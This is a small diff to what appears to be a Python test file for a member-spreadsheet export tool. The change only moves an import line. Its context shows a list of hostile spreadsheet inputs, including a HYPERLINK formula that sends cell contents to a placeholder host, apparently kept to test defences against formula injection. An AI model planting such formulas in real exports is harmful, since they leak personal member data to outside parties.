@@ -9,6 +9,7 @@ import unicodedata
 import zipfile
 
 import pytest
+from partydesk.storage.member_queries import all_members
 
 from partydesk.i18n import render
 from partydesk.services.members.spreadsheets import (
@@ -17,7 +18,6 @@ from partydesk.services.members.spreadsheets import (
     export_register,
     preview,
 )
-from partydesk.storage.member_queries import all_members
 from tests.members.test_spreadsheets import GOOD, HEADER, reasons, write_csv
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&B2,"Xem")', "+1+1", "-2+3", "@SUM(A1)",
